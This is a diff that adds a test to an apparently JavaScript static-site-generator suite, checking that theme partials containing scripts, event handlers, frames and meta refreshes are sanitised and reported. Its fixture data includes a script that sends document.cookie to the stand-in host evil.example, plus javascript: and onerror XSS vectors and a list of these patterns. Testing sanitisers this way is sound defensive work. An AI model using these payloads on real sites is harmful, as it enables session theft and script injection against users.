@@ -33,6 +33,23 @@ describe('theme partials', () => {
     }
   });
 
+  it('never carries script from a partial to the site: scripts, handlers, frames and a meta refresh are left out and reported', async () => {
+    const root = await tempDir();
+    await writeTree(root, {
+      ...posts,
+      'theme/partials/head.html': '<meta name="author" content="Me"><script>fetch("https://evil.example/"+document.cookie)</script><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="/fonts.css">',
+      'theme/partials/header.html': '<header class="mine"><a href="javascript:alert(1)">Home</a><img src="/logo.png" onerror="alert(2)"><iframe src="https://evil.example/"></iframe></header>',
+    });
+    const out = path.join(root, '_site');
+    const summary = await build(root, out);
+    const html = (await readFile(path.join(out, 'index.html'), 'utf8')).toLowerCase();
+    expect(html).toContain('<meta name="author" content="me">');
+    expect(html).toContain('<link rel="stylesheet" href="/fonts.css">');
+    expect(html).toContain('<header class="mine">');
+    for (const bad of ['evil.example', 'javascript:', 'onerror', 'http-equiv="refresh"', '<iframe']) expect(html, bad).not.toContain(bad);
+    expect(summary.warnings.filter((w) => w.startsWith('theme/partials/'))).toHaveLength(2);
+  });
+
   it('rebuilds every page when a partial changes, as a clean build would', async () => {
     const root = await tempDir();
     await writeTree(root, { ...posts, 'theme/partials/header.html': '<header>One</header>' });
